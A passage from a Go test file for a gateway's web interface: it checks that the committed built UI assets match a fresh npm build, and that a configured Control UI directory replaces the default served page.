	for _, folder := range []string{"internal/surface/webui/dist", "internal/surface/canvas/dist"} {
		fresh, have := readTree(t, filepath.Join(dir, folder)), readTree(t, filepath.Join(root, folder))
		for name, content := range fresh {
			if have[name] != content {
				t.Errorf("%s: %s is not what the sources give: cd web && npm ci && npm run build", folder, name)
			}
		}
		for name := range have {
			if _, ok := fresh[name]; !ok {
				t.Errorf("%s: %s is not made from the sources: cd web && npm ci && npm run build", folder, name)
			}
		}
	}
}

// readTree returns the files below a folder.
func readTree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := fs.WalkDir(os.DirFS(dir), ".", func(name string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		b, err := os.ReadFile(filepath.Join(dir, name))
		out[name] = string(b)
		return err
	})
	if err != nil || len(out) == 0 {
		t.Fatalf("%s: %d files, %v", dir, len(out), err)
	}
	return out
}

// Requests returns the addresses of all requests of the page.
func (b *browser) Requests() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return slices.Clone(b.requests)
}

// TestWebReplaced checks that a configured Control UI takes the page's place, and that a
// switched-off page is not served.
func TestWebReplaced(t *testing.T) {
	t.Parallel()
	ui := t.TempDir()
	if err := os.WriteFile(filepath.Join(ui, "index.html"), []byte("<!doctype html><title>another page</title>"),
		0o644); err != nil {
		t.Fatal(err)
	}
	s := newGateway(t, section{"gateway": section{"controlUi": section{"root": ui}}})
	b := newBrowser(t)
	link := s.dashboard()
	if at, err := url.Parse(link); err != nil || at.Fragment != "" {
		t.Errorf("the address is %s", link)
	}
	b.Open(link)
	if got := evaluate[string](b, "document.title"); got != "another page" {
		t.Errorf("the page is %q", got)
	}
}
